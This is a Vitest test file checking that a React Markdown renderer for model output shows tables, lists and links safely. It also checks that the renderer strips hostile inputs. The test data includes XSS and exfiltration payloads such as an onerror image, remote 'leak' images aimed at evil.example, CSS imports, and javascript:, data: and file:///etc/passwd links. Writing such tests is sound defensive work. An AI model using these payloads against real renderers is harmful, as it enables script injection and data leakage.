import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("a model's Markdown", () => {
  it("becomes tables, lists and code", () => {
    const html = render(
      "# Title\n\n| a | b |\n|---|--:|\n| 1 | **2** |\n\n- one\n- two\n\n```js\nconst x = 1 < 2;\n```",
    );
    expect(html).toContain("<h3");
    expect(html).toMatch(/<th scope="col"[^>]*text-right[^>]*>b<\/th>/);
    expect(html).toContain("<strong");
    expect(html.match(/<li/g)).toHaveLength(2);
    expect(html).toContain("const x = 1 &lt; 2;");
  });

  it.each([
    ["HTML", '<img src="https://evil.example/x.png" onerror="alert(1)">'],
    ["inline HTML", 'see <a href="https://evil.example" ping="https://evil.example">this</a>'],
    ["a remote image", "![secret](https://evil.example/leak?q=1)"],
    ["a style", "<style>@import 'https://evil.example/x.css'</style>"],
    ["a prefetch", '<link rel="prefetch" href="https://evil.example">'],
    ["an image by reference", "![x][y]\n\n[y]: https://evil.example/leak.png"],
  ])("never makes a request by itself: %s", (_, text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(img|style|link|script|iframe|svg|object|video|audio|source)\b/i);
    expect(html).not.toMatch(/<[^>]*\s(src|srcset|ping|style|onerror)=/i);
  });

  it("shows where a link leads, whatever its text claims", () => {
    const html = render("[https://bank.example](https://evil.example/login)");
    expect(html).toContain('href="https://evil.example/login"');
    expect(html).toContain("(evil.example)");
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it.each([
    "javascript:alert(1)",
    "data:text/html,x",
    "/api/logout",
    "//evil.example",
    "/\\\\evil.example",
    "vbscript:x",
    "file:///etc/passwd",
  ])("makes no link of %s", (href) => {
    expect(render(`[click](${href})`)).not.toContain("<a ");
  });

  it("links to the console's own screens", () => {
    expect(render("[Settings](/settings?tab=providers)")).toContain('href="/settings?tab=providers"');
  });

  it.each([400, 1500, 20_000])("survives nesting without end: %i levels", (levels) => {
    expect(render(`${">".repeat(levels)} deep`)).toContain("deep");
    expect(render(`${"[".repeat(levels)}`)).toContain("[[[");
    expect(render(`${"- ".repeat(levels)} deep`)).toContain("deep");
    expect(render(`${"**a ".repeat(levels)}`)).toContain("a");
  });

  it("shows a text too long to lex as it is", () => {
    expect(render(`# ${"x".repeat(250_000)}`)).toContain("# xxx");
  });
});
